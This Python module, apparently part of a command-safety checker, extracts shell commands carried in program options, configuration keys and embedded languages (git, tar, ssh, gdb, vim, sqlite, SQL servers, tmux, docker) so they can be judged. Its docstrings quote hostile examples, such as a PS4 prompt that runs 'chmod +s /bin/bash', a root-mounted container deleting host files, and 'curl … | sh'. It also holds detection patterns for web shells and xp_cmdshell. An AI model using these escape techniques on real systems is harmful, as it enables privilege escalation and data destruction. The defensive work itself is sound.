"""Programs that run a command given to them as data: the option that carries it, as shell code.

GTFOBins lists hundreds of programs that spawn a shell, and nearly all do it the
same way: an option, a configuration key or a line of their own command
language holds a command they hand to ``sh -c`` (``tar
--checkpoint-action=exec=CMD``, ``zip -TT CMD``, ``git -c core.pager=CMD``,
``ssh -o ProxyCommand=CMD``, ``gdb -ex '!CMD'``, ``vim -c ':!CMD'``,
``sqlite3 '.shell CMD'``, ``xterm -e CMD``, ``tmux new 'CMD'``, ``make``'s
recipes, ``PAGER=CMD`` ...). :func:`carried` finds that command, so that the
walk (:func:`~.programs.walk`) judges it as shell code, with every rule. Code
for another interpreter (``gdb -ex 'python ...'``, ``vim -c ':py3 ...'``) is
handed on as that interpreter's command line (``python3 -c CODE``), which the
interpreter rule judges. Commands a container runs are handed on with the
host's paths put back (``docker run -v /:/host alpine rm -rf /host/home`` runs
``rm -rf /home`` on the host's files).

Each extraction is one pass over the words: linear in the command.
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable, Iterator, Sequence

from ..lazy_regex import lazy_compile
from .git_settings import environment_settings
from .git_settings import settings as git_settings
from .options import option_values as _option_values

__all__ = [
    "COMMAND_VARIABLES",
    "PAGE_CODE",
    "SERVER_COMMAND",
    "TERMINALS",
    "Perhaps",
    "carried",
    "confines",
    "container_verb",
    "git_runs_setting",
    "sed_runs_input",
    "sql_read_sources",
    "sql_write_targets",
    "unknown_program",
]


class Perhaps(str):
    """A command line found in an argument that a program or a script may or may not run: an unknown
    program's (``tool 'curl … | sh'``) or a script's (``sh ok.sh 'rm -rf ~'``). Nothing in the line says
    whether it runs it or only shows it (``gum confirm 'rm -rf ~?'``), so what it would do is asked,
    never blocked (:func:`~.programs.walk` marks its commands with :data:`PERHAPS`); after an option
    that names a command (``--exec``, ``-c``, ``run``) it is a plain string, judged in full."""

    __slots__ = ()


PERHAPS = "(an argument it may run)"
"""The layer :func:`~.programs.walk` puts on the commands of a :class:`Perhaps` string."""


COMMAND_VARIABLES = frozenset({
    "GIT_SSH_COMMAND", "GIT_SSH", "GIT_PAGER", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "GIT_EXTERNAL_DIFF",
    "GIT_PROXY_COMMAND", "GIT_ASKPASS", "SSH_ASKPASS", "SUDO_ASKPASS", "PAGER", "MANPAGER", "EDITOR",
    "VISUAL", "SYSTEMD_PAGER", "RSYNC_RSH", "BROWSER", "LESSOPEN", "LESSCLOSE", "PROMPT_COMMAND",
    "FCEDIT", "SVN_EDITOR", "HGEDITOR", "BZR_EDITOR", "KUBE_EDITOR", "CVS_RSH", "RESTIC_PASSWORD_COMMAND",
    "BORG_RSH", "CRASHPAGER", "AUTOM4TE", "RUSTC_WRAPPER", "RUSTC_WORKSPACE_WRAPPER", "RUSTC", "RUSTDOC",
    "CARGO_BUILD_RUSTC_WRAPPER", "CARGO_BUILD_RUSTC_WORKSPACE_WRAPPER", "CARGO_BUILD_RUSTC",
    "CARGO_BUILD_RUSTDOC",
})  # fmt: skip
"""Environment variables whose value a program runs as a command."""

_COMMAND_VARIABLE = lazy_compile(
    r"^(?:CARGO_TARGET_\w+_(?:RUNNER|LINKER)|CARGO_HOST_LINKER|(?i:npm_config_script[_-]shell))$"
)
"""Variables named by a pattern whose value a program runs: cargo's per-target runners and linkers,
npm's ``script-shell`` (``npm_config_*`` is npm's configuration, in any case)."""
_TOOL_OPTIONS = {"GOFLAGS": ("-toolexec", "--toolexec", "-exec", "--exec")}
"""Variables that hold a program's options, some of which name a program it runs."""


def variable_runs(key: str) -> bool:
    """Whether the variable ``key`` holds a command line a program runs (``GIT_SSH_COMMAND``)."""
    return key in COMMAND_VARIABLES or _COMMAND_VARIABLE.match(key) is not None


def _variable_code(key: str, value: str) -> Iterator[str]:
    """The command a variable assignment gives a program to run (``PAGER=CMD``, ``RUSTC_WRAPPER=./w``,
    ``GOFLAGS=-toolexec=./w``, ``npm_config_node_options='--require ./x.js'``), if any."""
    if not value:
        return
    if key in COMMAND_VARIABLES or _COMMAND_VARIABLE.match(key):
        yield value
    elif key in _TOOL_OPTIONS:
        yield from _by_options(*_TOOL_OPTIONS[key])(value.split(), ())
    elif key.lower().replace("-", "_") == "npm_config_node_options":
        yield from _node_preloads(value)


PROMPT_VARIABLES = frozenset({"PS0", "PS1", "PS2", "PS3", "PS4"})
"""Prompts bash expands each time it shows them: a ``$(...)`` in one runs (``env SHELLOPTS=xtrace
PS4='$(chmod +s /bin/bash)' ./setuid-script`` runs chmod as the script's owner at its first line)."""


def substitutions(text: str) -> Iterator[str]:
    """The commands of the ``$(...)`` and backquoted substitutions in ``text``, outermost first (one pass)."""
    index, depth, start = 0, 0, 0
    while index < len(text):
        char = text[index]
        if depth == 0 and char == "`":
            end = text.find("`", index + 1)
            if end < 0:
                return
            yield text[index + 1 : end]
            index = end + 1
            continue
        if text.startswith("$(", index) and not text.startswith("$((", index):
            if depth == 0:
                start = index + 2
            depth += 1
            index += 2
            continue
        if char == ")" and depth:
            depth -= 1
            if depth == 0:
                yield text[start:index]
        index += 1


_Extract = Callable[[Sequence[str], Sequence[str]], Iterator[str]]
"""(argument values, here-string and here-document texts) -> shell code."""


def _by_options(*options: str, transform: Callable[[str], str | None] = lambda v: v) -> _Extract:
    wanted = frozenset(options)

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for value in _option_values(values, wanted):
            code = transform(value)
            if code:
                yield code

    return extract


def _checkpoint_action(value: str) -> str | None:
    """tar --checkpoint-action=exec=CMD (also ``sleep=``, ``dot``: no command)."""
    return value.partition("=")[2] if value.startswith("exec=") else None


def _tar(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    yield from _by_options("--checkpoint-action", transform=_checkpoint_action)(values, fed)
    yield from _by_options(
        "--to-command", "--use-compress-program", "-I", "--rsh-command", "--info-script", "-F",
        "--new-volume-script",
    )(values, fed)  # fmt: skip


# -- gdb and the vi family: their own command language, with a shell escape ---------------

_INTERPRETER_COMMANDS = {
    "python": "python3", "python3": "python3", "py": "python3", "py3": "python3", "pyx": "python3",
    "pythonx": "python3", "pi": "python3", "python-interactive": "python3", "lua": "lua", "perl": "perl",
    "ruby": "ruby", "guile": "guile", "mzscheme": "racket", "tcl": "tclsh",
}  # fmt: skip
"""Editor and debugger commands that run a line of another language, and its interpreter."""
_EDITOR_PREFIX = lazy_compile(r"^\s*:*\s*(?:(?:silent|sil|exe|execute|keepalt|noautocmd|verbose)!?\s+)*")
_EDITOR_SHELL = lazy_compile(
    r"^(?:\d*,?\d*|%)\s*(?:r(?:ead)?\s*|w(?:rite)?\s*|)!(.+)$|^(?:ter(?:minal)?|sh(?:ell)?)\b\s*(.*)$"
)
_SYSTEM_CALL = lazy_compile(r"\b(?:system|systemlist|jobstart|termopen)\s*\(\s*([\"'])(.{1,4000}?)\1")


def _editor_command(line: str) -> Iterator[str]:
    """What a vim/ex/gdb command line runs: ``!CMD``, ``r !CMD``, ``py3 CODE``, ``call system('CMD')``."""
    line = _EDITOR_PREFIX.sub("", line, count=1)
    if not line:
        return
    word, _, rest = line.partition(" ")
    interpreter = _INTERPRETER_COMMANDS.get(word.rstrip("do"))
    if interpreter is not None and rest.strip():
        flag = "-c" if interpreter == "python3" else "-e"
        if interpreter == "tclsh":
            yield f"echo {shlex.quote(rest)} | tclsh"
        else:
            yield shlex.join([interpreter, flag, rest])
        return
    if word in ("pipe", "|"):
        yield rest.rpartition("|")[2]  # gdb: pipe COMMAND | SHELL_COMMAND
        return
    shell = _EDITOR_SHELL.match(line)
    if shell is not None:
        yield (shell.group(1) or shell.group(2) or "sh").strip()
        return
    for match in _SYSTEM_CALL.finditer(line):
        yield match.group(2)


_GDB_COMMANDS = frozenset({"-ex", "--ex", "-eval-command", "--eval-command", "-iex", "--iex",
                           "-init-eval-command", "--init-eval-command"})  # fmt: skip


def _gdb(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    for value in _option_values(values, _GDB_COMMANDS):
        line = value.strip()
        dump = re.match(
            r"^dump\s+(?:binary\s+|verilog\s+|ihex\s+|srec\s+|tekhex\s+)?(?:value|memory)\s+(\S+)", line
        )
        if dump is not None:
            yield f": > {shlex.quote(dump.group(1))}"  # gdb: dump value FILE EXPR writes FILE
        elif line.startswith("shell "):
            yield line[6:]  # gdb: shell CMD
        else:
            yield from _editor_command(line)
    if "--args" in values:
        rest = values[values.index("--args") + 1 :]
        if rest:
            yield shlex.join(rest)  # gdb --args PROG ARGS: runs PROG
    for text in fed:
        for line in text.splitlines():
            yield from _editor_command(line)


def _vim(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    lines = list(_option_values(values, frozenset({"-c", "--cmd"})))
    lines += [v[1:] for v in values if v.startswith("+") and len(v) > 1]
    lines += [line for text in fed for line in text.splitlines()]  # ex/vim -es < script, ed <<< '!cmd'
    for line in lines:
        yield from _editor_command(line)


# -- programs with a command language of their own ----------------------------------------


_ATTACH = lazy_compile(r"\bATTACH\s+(?:DATABASE\s+)?'([^']{1,4096})'", re.IGNORECASE)


def _sqlite(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """sqlite3's ``.shell CMD``, ``.system CMD``; ``.output FILE`` and ``ATTACH 'FILE'`` write FILE."""
    for text in [*values, *fed]:
        for match in _ATTACH.finditer(text):
            yield f": >> {shlex.quote(match.group(1))}"
        for line in text.splitlines():
            line = line.strip()
            word, _, rest = line.partition(" ")
            if word in (".shell", ".system") and rest:
                yield rest
            elif word in (".import", ".read") and rest:
                yield f"cat {shlex.quote(rest.split()[0])}"  # the file's lines become rows, or statements
            elif (
                word in (".output", ".once", ".log") and rest and not rest.startswith(("|", "stdout", "off"))
            ):
                yield f": > {shlex.quote(rest.strip())}"
            elif word in (".output", ".once") and rest.startswith("|"):
                yield rest[1:]


_SQL_WRITES = lazy_compile(
    r"\bINTO\s+(?:OUT|DUMP)FILE\s+['\"]([^'\"]{1,4096})['\"]|^\\o\s+(\S+)|"
    r"\b(?:general_log_file|slow_query_log_file)\s*=\s*['\"]([^'\"]{1,4096})|\blo_export\s*\([^,)]{1,200},\s*'([^']{1,4096})'",
    re.IGNORECASE | re.MULTILINE,
)
_SQL_READS = lazy_compile(
    r"\b(?:load_file|pg_read_file|pg_read_binary_file|lo_import)\s*\(\s*N?['\"]([^'\"]{1,4096})['\"]|"
    r"\bLOAD\s+DATA\s+(LOCAL\s+)?INFILE\s+['\"]([^'\"]{1,4096})['\"]|"
    r"\bBULK\s+INSERT\s+[\w.\[\]\"]{1,300}\s+FROM\s+N?'([^']{1,4096})'|\bOPENROWSET\s*\(\s*BULK\s+N?'([^']{1,4096})'",
    re.IGNORECASE,
)
_STATEMENT_PART = lazy_compile(r"'[^']*'?|[^';]+|;")
"""A quoted literal (``''`` inside one reads as two literals side by side), a run of other text, a ``;``."""
_COPY_WORD = lazy_compile(r"\bcopy\b", re.IGNORECASE)
_COPY_TO = lazy_compile(r"\bTO\s+'([^']{1,4096})'", re.IGNORECASE)
_COPY_FROM = lazy_compile(r"\bFROM\s+'([^']{1,4096})'", re.IGNORECASE)
_PSQL_COPY_TO = lazy_compile(r"\bto\s+'?([^'\s;]+)", re.IGNORECASE)
PAGE_CODE = lazy_compile(r"<\?php|<\?=|<%[@=!]?\s*\w", re.IGNORECASE)
"""The code of a page a web server runs (PHP's ``<?php``, JSP's and ASP's ``<%``): what a web shell is."""


def _copy_statements(text: str) -> Iterator[tuple[str, int, bool]]:
    """Each ``COPY`` statement of ``text``: the statement, where its ``COPY`` word ends, and whether it is
    psql's ``\\copy`` (the client's, not the server's). Statements end at a ``;`` outside quotes, so
    ``COPY (SELECT '<?php …; ?>') TO 'F'`` is one: one pass over the text, whatever it repeats."""
    parts: list[str] = []
    for match in _STATEMENT_PART.finditer(text):
        if match.group(0) != ";":
            parts.append(match.group(0))
            continue
        yield from _copy_statement("".join(parts))
        parts = []
    yield from _copy_statement("".join(parts))


def _copy_statement(statement: str) -> Iterator[tuple[str, int, bool]]:
    copy = _COPY_WORD.search(statement)
    if copy is not None:
        yield statement, copy.end(), statement[copy.start() - 1 : copy.start()] == "\\"


def sql_write_targets(text: str) -> list[str]:
    """The files SQL writes: ``SELECT … INTO OUTFILE 'F'``, ``COPY … TO 'F'``, psql's ``\\copy … to F`` and
    ``\\o F``, MySQL's query log moved (``SET GLOBAL general_log_file='F'``), PostgreSQL's
    ``lo_export(OID, 'F')``. A ``COPY`` and its ``TO`` are paired within one statement, searched from the
    statement's first ``COPY`` (:func:`_copy_statements`)."""
    targets = [next(group for group in match.groups() if group) for match in _SQL_WRITES.finditer(text)]
    for statement, start, client in _copy_statements(text):
        targets += [match.group(1) for match in _COPY_TO.finditer(statement, start)]
        if client:  # psql's \copy t to out.csv
            unquoted = _PSQL_COPY_TO.search(statement, start)
            if unquoted is not None and unquoted.group(1) not in targets:
                targets.append(unquoted.group(1))
    return targets


def sql_read_sources(text: str) -> list[tuple[str, bool]]:
    """The files SQL reads, each with whether the server reads it from its own disk: ``LOAD_FILE('F')``,
    ``pg_read_file('F')``, ``lo_import('F')``, ``LOAD DATA INFILE 'F'``, ``COPY t FROM 'F'``, SQL Server's
    ``BULK INSERT t FROM 'F'`` and ``OPENROWSET(BULK 'F')``. ``LOAD DATA LOCAL INFILE`` and psql's
    ``\\copy … FROM`` read the client's file."""
    sources: list[tuple[str, bool]] = []
    for match in _SQL_READS.finditer(text):
        path = next(group for group in match.group(1, 3, 4, 5) if group)
        sources.append((path, match.group(2) is None))
    for statement, start, client in _copy_statements(text):
        sources += [(match.group(1), not client) for match in _COPY_FROM.finditer(statement, start)]
    return sources


SERVER_COMMAND = lazy_compile(
    r"\bxp_cmdshell\s+N?'((?:[^']|''){1,4096})'|"
    r"\b(?:select|do|call|exec(?:ute)?)\s+(?:\w+\.)*(?:\w+_)?(?:exec|eval|system|cmd|shell|spawn|popen)(?:_\w+)?"
    r"\s*\(\s*(?:N?'((?:[^']|''){1,4096})'|\"([^\"]{1,4096})\")",
    re.IGNORECASE,
)
"""A command handed to the server's shell: SQL Server's ``xp_cmdshell 'CMD'``, a user-defined function
made for it (``SELECT sys_exec('CMD')``, ``do_system('CMD')``)."""


def _server_commands(texts: Sequence[str]) -> Iterator[str]:
    for text in texts:
        for match in SERVER_COMMAND.finditer(text):
            yield next(g for g in match.groups() if g).replace("''", "'")


def _sql_server(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """sqlcmd, osql, isql: ``-Q``/``-q`` queries and fed text whose ``xp_cmdshell 'CMD'`` runs CMD."""
    texts = [*fed, *_option_values(values, frozenset({"-Q", "-q", "--query"}))]
    yield from _server_commands(texts)
    for text in texts:
        yield from (f"cat {shlex.quote(path)}" for path, _ in sql_read_sources(text))


_SQL_PROGRAM = lazy_compile(r"\b(?:FROM|TO)\s+PROGRAM\s+'((?:[^']|''){1,4096})'", re.IGNORECASE)
"""PostgreSQL's ``COPY … FROM PROGRAM 'CMD'`` / ``TO PROGRAM 'CMD'``: the server runs CMD with a shell."""


def _bang_lines(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """ftp, sftp, smbclient, mysql, psql, dc: a line ``!CMD`` (``\\! CMD``, ``system CMD``) runs CMD;
    psql's ``COPY … PROGRAM 'CMD'`` runs it on the database server."""
    texts = [*fed, *_option_values(values, frozenset({"-c", "-e", "--execute", "--command", "--expression"}))]
    yield from _server_commands(texts)
    for text in texts:
        for match in _SQL_PROGRAM.finditer(text):
            yield match.group(1).replace("''", "'")
        for target in sql_write_targets(text):
            yield f": >> {shlex.quote(target)}"
        for path, _ in sql_read_sources(text):
            yield f"cat {shlex.quote(path)}"  # the server's or the client's read of the file
        for line in re.split(r"[\n;]", text):
            line = line.strip().removeprefix("\\")
            if line.startswith("!") and len(line) > 1:
                yield line[1:]
            elif line.lower().startswith("system "):
                yield line[7:]


def _mongo_shell(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``mongosh --eval CODE``: JavaScript run by Node (``require("child_process")``), handed on as
    ``node -e CODE``; the old shell's ``run("CMD", …)``/``runProgram(…)`` start programs."""
    for code in [*_option_values(values, frozenset({"--eval"})), *fed]:
        if "require" in code or "process" in code:
            yield shlex.join(["node", "-e", code])
        for match in _MONGO_RUN.finditer(code):
            yield shlex.join(re.findall(r"[\"']([^\"']*)[\"']", match.group(1)))


_MONGO_RUN = lazy_compile(r"\b(?:run|runProgram|_runMongoProgram)\s*\(([^)]{1,4096})\)")


_MAKE_FILE = lazy_compile(r"\$[({]file\s+(>>?|<)\s*([^,)}\s]+)")
_MAKE_SHELL = lazy_compile(r"\$[({]shell\s+([^)}]{1,4000})[)}]")


def _make(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """make's recipe lines (a tab, then shell code), from a makefile given inline; its ``$(file >F,TEXT)``
    writes F, ``$(file <F)`` reads it and ``$(shell CMD)`` runs CMD, in any line."""
    texts = list(fed) + list(_option_values(values, frozenset({"--eval", "-E"})))
    for text in texts:
        for match in _MAKE_FILE.finditer(text):
            op, target = match.groups()
            yield f"cat {shlex.quote(target)}" if op == "<" else f": {op} {shlex.quote(target)}"
        for match in _MAKE_SHELL.finditer(text):
            yield match.group(1)
        for line in text.splitlines():
            if line.startswith("\t"):
                yield line.lstrip("\t").lstrip("@-+")


def _osascript(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """AppleScript's ``do shell script``, Terminal's ``do script``, JXA's ``doShellScript``."""
    from .applescript import script_text, shell_code  # here: only osascript needs it

    text, _ = script_text(values, fed)
    yield from shell_code(text)


def _launchctl(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``launchctl asuser UID CMD ARGS`` and ``bsexec PID CMD ARGS``: CMD runs in that user's session."""
    if len(values) > 2 and values[0] in ("asuser", "bsexec"):
        rest = values[2:]
        yield rest[0] if len(rest) == 1 else shlex.join(rest)


def _security_shell(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``security -i`` (or ``-p PROMPT``) reads its own subcommands, one a line, from its input:
    ``echo 'dump-keychain -d' | security -i`` is ``security dump-keychain -d``."""
    if not any(v == "-i" or v == "-p" or (v[:1] == "-" != v[1:2] and "i" in v[1:]) for v in values[:3]):
        return
    for text in fed:
        for line in text.splitlines():
            if line.strip() and not line.lstrip().startswith("#"):
                yield f"security {line.strip()}"


def _rest_after(*markers: str) -> _Extract:
    """The words after the first of ``markers`` are a command line (``xterm -e CMD ARGS``)."""

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for index, value in enumerate(values):
            if value in markers and index + 1 < len(values):
                rest = values[index + 1 :]
                yield rest[0] if len(rest) == 1 else shlex.join(rest)
                return

    return extract


_SCREEN_VALUES = frozenset("SctTpehLX")


_STUFF_RETURN = lazy_compile(r"\\[nr]|\^[MJmj]|\\01[25]")
"""What screen's ``stuff`` reads as Return: ``\\n``, ``\\r``, ``^M``, ``^J``, octal 012 and 015."""


def _screen(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """screen [-dmS NAME ...] CMD ARGS: the command runs in the new window.

    ``screen [-r SESSION] -X stuff TEXT`` types TEXT into a running session's shell (screen
    turns ``\\n``, ``\\r`` and ``^M`` into Return), and ``-X exec``/``-X screen CMD`` runs CMD there.
    """
    if "-X" in values:
        rest = values[values.index("-X") + 1 :]
        if len(rest) > 1 and rest[0] == "stuff":
            yield _STUFF_RETURN.sub("\n", " ".join(rest[1:]))
        elif len(rest) > 1 and rest[0] in ("exec", "screen"):
            words = rest[2:] if rest[0] == "exec" and rest[1][:1] in "!.|" else rest[1:]
            if words:
                yield words[0] if len(words) == 1 else shlex.join(words)
        return
    i = 0
    while i < len(values) and values[i].startswith("-"):
        word = values[i]
        i += 1
        if word in ("-Logfile", "-logfile") or (len(word) > 1 and word[-1] in _SCREEN_VALUES):
            i += 1
    if i < len(values):
        rest = values[i:]
        yield rest[0] if len(rest) == 1 else shlex.join(rest)


_TMUX_RUNS = frozenset({"new", "new-session", "new-window", "neww", "split-window", "splitw", "run-shell",
                        "run", "respawn-pane", "respawnp", "respawn-window", "respawnw", "send-keys", "send",
                        "pipe-pane", "pipep", "display-popup", "popup"})  # fmt: skip
_TMUX_VALUES = frozenset("censtxyFlNT")


def _tmux(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """tmux new-session/new-window/run-shell/send-keys 'CMD': the shell command after the options."""
    for index, value in enumerate(values):
        if value not in _TMUX_RUNS:
            continue
        rest = values[index + 1 :]
        i = 0
        while i < len(rest) and rest[i].startswith("-") and rest[i] != "--":
            i += 2 if rest[i][-1] in _TMUX_VALUES else 1
        words = [w for w in rest[i:] if w != "--" and w not in ("Enter", "C-m", "KPEnter")]
        if not words:
            continue
        if value.startswith("send") or len(words) == 1:
            yield " ".join(words)  # keys typed into a shell, or one shell command string
        else:
            yield shlex.join(words)
        return  # one subcommand per tmux invocation (and one pass over its words)


_PARALLEL_VALUES = frozenset({"-j", "--jobs", "-S", "--sshlogin", "--joblog", "--results", "-a", "--arg-file",
                              "--delay", "--timeout", "-P", "--max-procs", "-n", "--max-args", "--tmpdir",
                              "--workdir", "--colsep", "-d", "--delimiter", "-I", "--env"})  # fmt: skip


def _parallel(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """parallel CMD ::: ARGS runs CMD ARG for each; parallel ::: CMDS runs each."""
    i = 0
    while i < len(values) and values[i].startswith("-") and values[i] not in (":::", "::::"):
        i += 2 if values[i] in _PARALLEL_VALUES else 1
    template: list[str] = []
    while i < len(values) and values[i] not in (":::", "::::", ":::+"):
        template.append(values[i])
        i += 1
    arguments = [v for v in values[i:] if v not in (":::", "::::", ":::+")]
    if not template:
        yield from arguments
        return
    text = " ".join(template)
    for argument in (arguments or [""])[:MAX_ARGUMENTS]:
        yield text.replace("{}", argument) if "{}" in text else f"{text} {shlex.quote(argument)}"


_SSH_COMMAND_KEYS = frozenset({"proxycommand", "localcommand", "knownhostscommand", "remotecommand"})


def _ssh_options(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """ssh -o ProxyCommand=CMD, -o 'LocalCommand CMD': commands ssh runs locally."""
    for value in _option_values(values, frozenset({"-o"})):
        split = re.match(r"^\s*([A-Za-z]+)\s*(?:=|\s)\s*(.*)$", value, re.DOTALL)
        if split is not None and split.group(1).lower() in _SSH_COMMAND_KEYS:
            rest = split.group(2)
            if rest and rest.lower() != "none":
                yield rest


_GIT_COMMAND_KEYS = lazy_compile(
    r"^(?:core\.(?:pager|sshcommand|editor|fsmonitor|askpass|gitproxy)|diff\.external|sequence\.editor|"
    r"pager\.[\w.-]+|gpg(?:\.\w+)?\.program|filter\.[\w.-]+\.(?:clean|smudge|process)|diff\.[\w.-]+\.textconv|"
    r"merge\.[\w.-]+\.driver|uploadpack\.packobjectshook|credential(?:\.[^=]+)?\.helper|alias\.[\w.-]+|"
    r"sendemail\.(?:smtpserver|tocmd|cccmd)|remote\.[\w.-]+\.(?:uploadpack|receivepack)|core\.hookspath)$",
    re.IGNORECASE,
)
"""git configuration keys whose value git runs (an alias or a helper when it starts with ``!``)."""


def git_runs_setting(setting: str) -> bool:
    """Whether ``KEY=VALUE`` (``git -c``'s) sets a key whose value git runs (``core.sshCommand``):
    the value is a command line, judged as one, not a file name."""
    return _GIT_COMMAND_KEYS.match(setting.partition("=")[0]) is not None


def _git_settings_code(given: Sequence[tuple[str, str]]) -> Iterator[str]:
    """The commands git runs for the settings ``given`` (:mod:`.git_settings`)."""
    for key, value in given:
        if _GIT_COMMAND_KEYS.match(key):
            code = _git_value(key, value)
            if code:
                yield code


def _git_value(key: str, value: str) -> str | None:
    key = key.lower()
    if key.startswith(("alias.", "credential")) or key.endswith(".helper"):
        return value[1:] if value.startswith("!") else None
    if key == "core.hookspath":
        return None  # the git rule judges where hooks are taken from
    return value


_GIT_RUNS_REST = (("bisect", "run"), ("submodule", "foreach"))
_GIT_COMMAND_OPTIONS = frozenset({"--exec", "-x", "--extcmd", "--tree-filter", "--index-filter",
                                  "--msg-filter", "--env-filter", "--commit-filter", "--parent-filter",
                                  "--tag-name-filter", "--upload-pack", "--receive-pack", "-u"})  # fmt: skip
"""Options whose value git runs: ``rebase --exec``, ``difftool -x``, ``filter-branch --tree-filter`` ..."""


def _git(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    configuring = values.index("config") if "config" in values else len(values)
    for first, second in _GIT_RUNS_REST:  # git bisect run CMD, git submodule foreach CMD
        if first in values:
            at = values.index(first)
            if values[at + 1 : at + 2] == [second] and at + 2 < len(values):
                rest = values[at + 2 :]
                yield rest[0] if len(rest) == 1 else shlex.join(rest)
    for index, value in enumerate(values):
        if value == "-c" and index + 1 < len(values):
            key, _, setting = values[index + 1].partition("=")
            if _GIT_COMMAND_KEYS.match(key):
                code = _git_value(key, setting)
                if code:
                    yield code
        elif value.partition("=")[0] in _GIT_COMMAND_OPTIONS and "=" in value:
            yield value.partition("=")[2]
        elif value in _GIT_COMMAND_OPTIONS and index + 1 < len(values) and index < configuring:
            yield values[index + 1]
        elif value.startswith("ext::"):
            yield value[5:].replace("%S", "").replace("% ", " ")  # git clone 'ext::sh -c CMD'
        elif _GIT_COMMAND_KEYS.match(value) and index + 1 < len(values) and index > configuring:
            code = _git_value(value, values[index + 1])  # git config core.pager 'CMD'
            if code:
                yield code


_CMAKE_TOOLS = {
    "copy": ["cp"], "copy_if_different": ["cp"], "copy_directory": ["cp", "-r"],
    "copy_directory_if_different": ["cp", "-r"], "rename": ["mv"], "rm": ["rm"], "remove": ["rm", "-f"],
    "remove_directory": ["rm", "-rf"], "create_symlink": ["ln", "-s"], "create_hardlink": ["ln"],
    "touch": ["touch"], "make_directory": ["mkdir", "-p"], "tar": ["tar"], "chdir": [],
}  # fmt: skip
"""``cmake -E TOOL``: the shell command each tool is."""


_CMAKE_PROGRAM = lazy_compile(
    r"^CMAKE_(?:\w+_(?:COMPILER_LAUNCHER|LINKER_LAUNCHER|COMPILER)|LINKER|MAKE_PROGRAM|AR|RANLIB)(?::\w+)?$"
)
"""``cmake -D`` cache variables that name a program the build runs (a compiler, a launcher)."""


def _cmake(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    for definition in _option_values(values, frozenset({"-D"})):
        name, _, value = definition.partition("=")
        if _CMAKE_PROGRAM.match(name) and value:
            yield " ".join(value.split(";"))  # a list: the program and its arguments
    if "-E" not in values:
        return
    rest = values[values.index("-E") + 1 :]
    if rest and rest[0] in _CMAKE_TOOLS:
        program = _CMAKE_TOOLS[rest[0]]
        if program:
            yield shlex.join([*program, *rest[1:]])
        elif len(rest) > 2:
            yield shlex.join(rest[2:])  # cmake -E chdir DIR CMD


# -- containers: the command, with the host's paths put back ------------------------------

MAX_MOUNTS = 16
MAX_ARGUMENTS = 16
"""How many mounts and ``parallel`` arguments are followed: each costs a pass over the command."""
_CONTAINER_FLAGS = frozenset({"-d", "-i", "-t", "-it", "-ti", "-dit", "-itd", "-id", "-di", "-td", "-dt",
                              "-P", "--rm", "--privileged", "--init", "--read-only", "--detach",
                              "--interactive",
                              "--tty", "--publish-all", "--no-healthcheck", "--oom-kill-disable",
                              "--sig-proxy", "-q", "--quiet", "--replace"})  # fmt: skip


def _container_options(values: Sequence[str], start: int) -> tuple[list[tuple[str, str]], int]:
    """The options after ``docker run|exec`` (at ``start``) as ``(option, value)`` pairs, and the index of
    the image or container that follows them."""
    options: list[tuple[str, str]] = []
    i = start + 1
    while i < len(values) and values[i].startswith("-"):
        word = values[i]
        value = ""
        if "=" in word and word.startswith("--"):
            word, _, value = word.partition("=")
        elif word not in _CONTAINER_FLAGS and i + 1 < len(values):
            i += 1
            value = values[i]
        i += 1
        options.append((word, value))
    return options, i


def container_command_start(name: str, values: Sequence[str]) -> int | None:
    """Where the command run in the container starts among a runner's arguments: after ``--`` for
    ``kubectl exec POD -- CMD`` (and ``lxc exec NAME -- CMD``), after the image or the container for
    ``docker run|exec [OPTIONS] NAME CMD``; None when there is none."""
    if name in ("kubectl", "oc", "lxc", "incus"):
        return values.index("--") + 1 if "--" in values else None
    start = container_verb(values)
    if start is None:
        return None
    _, image = _container_options(values, start)
    return image + 1 if image < len(values) else None


def _container(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """docker/podman run|exec ... IMAGE CMD: CMD, with mounted host directories as host paths."""
    start = container_verb(values)
    if start is None:
        return
    mounts: list[tuple[str, str]] = []
    options, i = _container_options(values, start)
    for word, value in options:
        if word in ("-v", "--volume") and value.startswith(("/", "~", "$HOME", "${HOME}")):
            host, _, inside = value.partition(":")
            mounts.append((inside.partition(":")[0] or host, host))
        elif word == "--mount":
            fields = dict(f.partition("=")[::2] for f in value.split(","))
            source = fields.get("source") or fields.get("src", "")
            target = fields.get("target") or fields.get("destination") or fields.get("dst", "")
            if source.startswith("/") and target:
                mounts.append((target, source))
    command = values[i + 1 :]  # the image (or container), then its command
    if not command:
        return
    text = shlex.join(command)
    # The longest container path first: -v /:/host -v /etc:/host/etc (a few: each is a pass over the text).
    for inside, host in sorted(mounts, key=lambda m: -len(m[0]))[:MAX_MOUNTS]:
        if inside == "/":
            continue
        inside = inside.rstrip("/")
        under = host.rstrip("/") + "/"
        text = re.sub(rf"(?<![\w/.-]){re.escape(inside)}/", under.replace("\\", "\\\\"), text)
        text = re.sub(rf"(?<![\w/.-]){re.escape(inside)}(?=$|[\s'\"])", host.replace("\\", "\\\\"), text)
    yield text


_HOST_SHARING = frozenset({"--privileged", "--cap-add", "--device", "--security-opt", "--volumes-from",
                           "--device-cgroup-rule", "--gpus"})  # fmt: skip
"""Options that give a container more of the host than its own file system."""
_HOST_NAMESPACES = frozenset({"--pid", "--ipc", "--uts", "--userns", "--cgroupns"})
